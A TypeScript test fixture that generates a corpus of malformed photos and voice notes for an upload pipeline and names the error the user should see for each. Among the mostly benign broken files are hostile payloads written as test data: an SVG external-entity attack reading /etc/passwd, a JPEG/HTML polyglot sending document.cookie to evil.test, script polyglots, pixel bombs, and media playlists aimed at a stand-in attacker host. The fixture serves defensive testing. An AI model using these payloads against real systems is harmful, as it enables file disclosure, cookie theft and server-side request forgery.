// The fault-injection corpus: bad photos and voice notes made on the spot with sharp, ffmpeg and Buffer
// tricks (truncated, mislabelled, over the size cap, bombs by header, silent, endless, polyglots, media
// playlists that point at a loopback "attacker"). Each item pairs one bad file with a good other half
// and names the message-catalogue key the user must get back.
import { spawn } from 'node:child_process';
import { mkdir, open, readFile, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { en, type MessageKey } from '../../src/i18n/en.js';
import { FFMPEG } from '../emulator-helpers.js';
import { bmp, jpegWithDeclaredSize, pngHeaderOnly } from './image-bytes.js';
import { SAMPLE_FACE, SAMPLE_VOICE } from './test-app.js';

export interface CorpusItem {
  name: string;
  image: string;
  voice: string;
  /** The catalogue key of the failure the user must see. */
  expect: MessageKey;
}

/** Over INPUT_MAX_BYTES (25 MiB by default), as a sparse file: huge to stat, nothing on disk. */
const OVER_CAP_BYTES = 26 * 1024 * 1024;

/** Deterministic "random" bytes (xorshift), so the corpus is the same on every run. */
function noiseBytes(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  // Never a known magic number by chance.
  out[0] = 0x13;
  return out;
}

/** Runs ffmpeg with `args`, its stdout (when `stdoutFile` is set) going straight to that file. */
async function ffmpeg(args: string[], stdoutFile?: string): Promise<void> {
  const out = stdoutFile ? await open(stdoutFile, 'w') : undefined;
  try {
    await new Promise<void>((resolve, reject) => {
      const child = spawn(FFMPEG, ['-hide_banner', '-nostdin', '-v', 'error', '-y', ...args], {
        stdio: ['ignore', out ? out.fd : 'ignore', 'pipe'],
      });
      let stderr = '';
      child.stderr?.on('data', (c: Buffer) => {
        stderr += c.toString();
      });
      child.on('error', reject);
      child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(`ffmpeg ${code}: ${stderr}`))));
    });
  } finally {
    await out?.close();
  }
}

const sine = (seconds: number, rate = 16_000) => [
  ...['-f', 'lavfi', '-i', `sine=frequency=220:sample_rate=${rate}:duration=${seconds}`],
];
const silence = (seconds: number, rate = 8_000) => [
  ...['-f', 'lavfi', '-i', `anullsrc=r=${rate}:cl=mono`, '-t', String(seconds)],
];

/** A WAV header that declares 2 GB of 8 kHz 8-bit audio (about 74 hours) over one second of a tone. */
function wavClaimingHours(): Buffer {
  const header = Buffer.alloc(44);
  header.write('RIFF', 0, 'latin1');
  header.writeUInt32LE(0xffffffff, 4);
  header.write('WAVEfmt ', 8, 'latin1');
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20); // PCM
  header.writeUInt16LE(1, 22); // mono
  header.writeUInt32LE(8_000, 24);
  header.writeUInt32LE(8_000, 28);
  header.writeUInt16LE(1, 32);
  header.writeUInt16LE(8, 34);
  header.write('data', 36, 'latin1');
  header.writeUInt32LE(0x7fff0000, 40);
  const square = Buffer.alloc(8_000);
  for (let i = 0; i < square.length; i++) square[i] = (i >> 4) % 2 ? 0xc0 : 0x40;
  return Buffer.concat([header, square]);
}

/** ID3v2 tag around an HTML page, and no audio frames: a tag-only "MP3" that is really a web page. */
function id3HtmlPolyglot(): Buffer {
  const html = Buffer.from('<html><script>alert(document.domain)</script></html>'.repeat(20));
  const size = html.length;
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0]);
  // Syncsafe size.
  header[6] = (size >> 21) & 0x7f;
  header[7] = (size >> 14) & 0x7f;
  header[8] = (size >> 7) & 0x7f;
  header[9] = size & 0x7f;
  return Buffer.concat([header, html]);
}

/** Builds every corpus file in `dir`; `attacker` is a loopback URL that must never be fetched. */
export async function buildCorpus(dir: string, attacker: string): Promise<CorpusItem[]> {
  await mkdir(dir, { recursive: true });
  const f = (name: string) => path.join(dir, name);
  const put = async (name: string, bytes: Buffer | string) => {
    await writeFile(f(name), bytes);
    return f(name);
  };
  const portrait = sharp({ create: { width: 640, height: 800, channels: 3, background: '#c8a080' } });
  const noisy = sharp({
    create: {
      width: 800,
      height: 800,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 60 },
    },
  });
  const [jpeg, noisyJpeg, noisyPng, tiff] = await Promise.all([
    portrait.clone().jpeg().toBuffer(),
    noisy.clone().jpeg().toBuffer(),
    noisy.clone().png().toBuffer(),
    portrait.clone().tiff().toBuffer(),
  ]);

  // ffmpeg-made audio and video, two at a time (the test machine has two shared cores).
  const picture = ['-f', 'lavfi', '-i', 'testsrc=size=160x120:rate=10'];
  const x264 = ['-c:v', 'libx264', '-preset', 'ultrafast'];
  const media: Array<[string[], string, boolean?]> = [
    [[...sine(4), '-c:a', 'libmp3lame', '-b:a', '32k'], 'tone.mp3'],
    [[...sine(1), '-c:a', 'libmp3lame', '-b:a', '32k'], 'one-second.mp3'],
    [[...sine(0.2), '-c:a', 'libopus'], 'blip.ogg'],
    [[...silence(5, 48_000), '-c:a', 'libopus'], 'silent.ogg'],
    [['-f', 'lavfi', '-i', 'anoisesrc=r=48000:a=0.0005:c=white', '-t', '5', '-c:a', 'libopus'], 'hiss.ogg'],
    [[...sine(400, 8_000), '-c:a', 'libmp3lame', '-b:a', '8k'], 'long-400s.mp3'],
    [[...silence(3 * 3600), '-c:a', 'flac', '-compression_level', '0'], 'three-hours.flac'],
    // Piped WebM has no duration in its header: only the decoding cap stops the work.
    [[...sine(360, 8_000), '-c:a', 'libopus', '-b:a', '6k', '-f', 'webm', 'pipe:1'], 'endless.webm', true],
    [[...picture, ...sine(3), '-t', '3', ...x264, '-c:a', 'aac', '-f', 'mp4'], 'video-as-audio.mp3'],
    [[...picture, '-t', '2', ...x264], 'video-only.mp4'],
  ];
  for (let i = 0; i < media.length; i += 2) {
    await Promise.all(
      media
        .slice(i, i + 2)
        .map(([args, name, piped]) => (piped ? ffmpeg(args, f(name)) : ffmpeg([...args, f(name)]))),
    );
  }
  const tone = await readFile(f('tone.mp3'));
  const silentOgg = await readFile(f('silent.ogg'));

  const overCap = async (name: string) => {
    await writeFile(f(name), '');
    await truncate(f(name), OVER_CAP_BYTES);
    return f(name);
  };
  await mkdir(f('a-directory.jpg'), { recursive: true });

  const img = (name: string, image: string, expect: MessageKey): CorpusItem => ({
    name,
    image,
    voice: SAMPLE_VOICE,
    expect,
  });
  const voc = (name: string, voice: string, expect: MessageKey): CorpusItem => ({
    name,
    image: SAMPLE_FACE,
    voice,
    expect,
  });
  const svgXxe = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "${attacker}/xxe"><!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600"><text y="20">&xxe;&passwd;</text></svg>`;
  const svgHref = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="600">
<image href="${attacker}/svg-image.png" width="600" height="600"/><image xlink:href="file:///etc/passwd"/></svg>`;
  const exifOnly = Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x16]),
    Buffer.from('Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0', 'latin1'),
    Buffer.from([0xff, 0xd9]),
  ]);
  const htmlJpeg = Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x40]),
    Buffer.from('<script>fetch("//evil.test/"+document.cookie)</script>'.padEnd(62, ' '), 'latin1'),
    Buffer.from('not image data after the comment'),
  ]);
  const heicHeader = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
    Buffer.alloc(64),
  ]);

  return [
    img('image: zero bytes', await put('zero.jpg', Buffer.alloc(0)), 'error.IMAGE_UNREADABLE'),
    img('image: random bytes', await put('random.jpg', noiseBytes(64 * 1024, 7)), 'error.IMAGE_UNREADABLE'),
    img(
      'image: text renamed .jpg',
      await put('notes.jpg', 'Shopping list: eggs, milk.\n'.repeat(50)),
      'error.IMAGE_UNREADABLE',
    ),
    img(
      'image: truncated JPEG',
      await put('truncated.jpg', noisyJpeg.subarray(0, noisyJpeg.length >> 1)),
      'error.IMAGE_UNREADABLE',
    ),
    img(
      'image: truncated PNG',
      await put('truncated.png', noisyPng.subarray(0, noisyPng.length >> 1)),
      'error.IMAGE_UNREADABLE',
    ),
    img(
      'image: JPEG header only',
      await put('header-only.jpg', jpeg.subarray(0, 400)),
      'error.IMAGE_UNREADABLE',
    ),
    img('image: EXIF segment only', await put('exif-only.jpg', exifOnly), 'error.IMAGE_UNREADABLE'),
    img('image: MP3 renamed .jpg', await put('song.jpg', tone), 'error.IMAGE_UNREADABLE'),
    img(
      'image: GIF/JavaScript polyglot',
      await put('polyglot.gif', Buffer.from('GIF89a/*\x00\x00*/=1;alert(1)//', 'latin1')),
      'error.IMAGE_UNREADABLE',
    ),
    img('image: JPEG/HTML polyglot', await put('polyglot.jpg', htmlJpeg), 'error.IMAGE_UNREADABLE'),
    img(
      'image: PNG bomb 20000x20000',
      await put('bomb.png', pngHeaderOnly(20_000, 20_000)),
      'error.IMAGE_TOO_MANY_PIXELS',
    ),
    img(
      'image: JPEG bomb 60000x60000',
      await put('bomb.jpg', jpegWithDeclaredSize(jpeg, 60_000, 60_000)),
      'error.IMAGE_TOO_MANY_PIXELS',
    ),
    img(
      'image: 1x1 PNG',
      await put(
        'pixel.png',
        await sharp({ create: { width: 1, height: 1, channels: 3, background: '#fff' } })
          .png()
          .toBuffer(),
      ),
      'error.IMAGE_TOO_SMALL',
    ),
    img(
      'image: 100x100 JPEG',
      await put('tiny.jpg', await portrait.clone().resize(100, 100).jpeg().toBuffer()),
      'error.IMAGE_TOO_SMALL',
    ),
    img(
      'image: 4000x40 sliver',
      await put(
        'sliver.png',
        await sharp({ create: { width: 4000, height: 40, channels: 3, background: '#888' } })
          .png()
          .toBuffer(),
      ),
      'error.IMAGE_TOO_SMALL',
    ),
    img('image: SVG with external entities', await put('xxe.jpg', svgXxe), 'error.IMAGE_UNREADABLE'),
    img('image: SVG with remote hrefs', await put('href.svg', svgHref), 'error.IMAGE_FORMAT'),
    img('image: BMP', await put('photo.bmp', bmp()), 'error.IMAGE_FORMAT'),
    img('image: TIFF', await put('photo.tiff', tiff), 'error.IMAGE_FORMAT'),
    img(
      'image: PDF renamed .jpg',
      await put('doc.jpg', '%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n'),
      'error.IMAGE_FORMAT',
    ),
    img(
      'image: PSD header',
      await put('layers.jpg', Buffer.concat([Buffer.from('8BPS', 'latin1'), Buffer.alloc(60)])),
      'error.IMAGE_FORMAT',
    ),
    img(
      'image: JPEG XL header',
      await put('next.jxl', Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.alloc(60)])),
      'error.IMAGE_FORMAT',
    ),
    img('image: HEIC header only', await put('phone.heic', heicHeader), 'error.IMAGE_FORMAT'),
    img('image: over the size cap', await overCap('huge.jpg'), 'error.DOWNLOAD_TOO_BIG'),
    img('image: a directory', f('a-directory.jpg'), 'error.DOWNLOAD_FAILED'),
    img('image: missing file', f('does-not-exist.jpg'), 'error.DOWNLOAD_FAILED'),
    img('image: /dev/urandom', '/dev/urandom', 'error.DOWNLOAD_FAILED'),

    voc('voice: zero bytes', await put('zero.mp3', Buffer.alloc(0)), 'error.VOICE_UNREADABLE'),
    voc('voice: random bytes', await put('random.mp3', noiseBytes(64 * 1024, 11)), 'error.VOICE_UNREADABLE'),
    voc(
      'voice: text renamed .mp3',
      await put('notes.mp3', 'Meeting notes, not a recording.\n'.repeat(60)),
      'error.VOICE_UNREADABLE',
    ),
    voc(
      'voice: text named .nfo',
      await put('notes.nfo', 'Release notes.\n'.repeat(60)),
      'error.VOICE_UNREADABLE',
    ),
    voc('voice: MP3 cut to 200 bytes', await put('cut.mp3', tone.subarray(0, 200)), 'error.VOICE_UNREADABLE'),
    voc(
      'voice: OGG headers only',
      await put('cut.ogg', silentOgg.subarray(0, 300)),
      'error.VOICE_UNREADABLE',
    ),
    voc('voice: ID3/HTML polyglot', await put('page.mp3', id3HtmlPolyglot()), 'error.VOICE_UNREADABLE'),
    voc('voice: digital silence', f('silent.ogg'), 'error.VOICE_SILENT'),
    voc('voice: faint hiss', f('hiss.ogg'), 'error.VOICE_SILENT'),
    voc('voice: 1 s', f('one-second.mp3'), 'error.VOICE_TOO_SHORT'),
    voc('voice: 0.2 s', f('blip.ogg'), 'error.VOICE_TOO_SHORT'),
    voc('voice: 400 s', f('long-400s.mp3'), 'error.VOICE_TOO_LONG'),
    voc('voice: 3 hours of FLAC silence', f('three-hours.flac'), 'error.VOICE_TOO_LONG'),
    // The decoded length counts, not the header's claim.
    voc(
      'voice: WAV header claiming 74 hours over 1 s',
      await put('hours.wav', wavClaimingHours()),
      'error.VOICE_TOO_SHORT',
    ),
    voc('voice: 6 min WebM without duration', f('endless.webm'), 'error.VOICE_TOO_LONG'),
    voc('voice: video named .mp3', f('video-as-audio.mp3'), 'error.VOICE_IS_VIDEO'),
    voc('voice: video without sound', f('video-only.mp4'), 'error.VOICE_NO_AUDIO'),
    voc('voice: a photo', SAMPLE_FACE, 'error.VOICE_NO_AUDIO'),
    voc('voice: PNG renamed .mp3', await put('picture.mp3', noisyPng), 'error.VOICE_NO_AUDIO'),
    voc(
      'voice: HLS playlist to a loopback host',
      await put(
        'list.m3u8',
        `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${attacker}/hls-segment.ts\n#EXT-X-ENDLIST\n`,
      ),
      'error.VOICE_UNREADABLE',
    ),
    voc(
      'voice: ffconcat list to a loopback host',
      await put('list.ffconcat', `ffconcat version 1.0\nfile '${attacker}/concat.mp3'\nfile '/etc/passwd'\n`),
      'error.VOICE_UNREADABLE',
    ),
    voc(
      'voice: SDP pointing at a loopback port',
      await put(
        'stream.sdp',
        `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio ${new URL(attacker).port} RTP/AVP 0\n`,
      ),
      'error.VOICE_UNREADABLE',
    ),
    voc('voice: over the size cap', await overCap('huge.mp3'), 'error.DOWNLOAD_TOO_BIG'),
    voc('voice: /dev/zero', '/dev/zero', 'error.DOWNLOAD_FAILED'),
  ];
}

const escapeRegExp = (s: string) => s.replace(/[.*+?^$()|[\]\\]/g, '\\$&');

/** Which `error.*` catalogue entry (English) produced `text`, placeholders matching anything. */
export function catalogueKeyOf(text: string): MessageKey | undefined {
  for (const [key, template] of Object.entries(en)) {
    if (!key.startsWith('error.')) continue;
    const pattern = template
      .split(/\{\w+\}/)
      .map(escapeRegExp)
      .join('.+?');
    if (new RegExp(`^${pattern}$`).test(text)) return key as MessageKey;
  }
  return undefined;
}
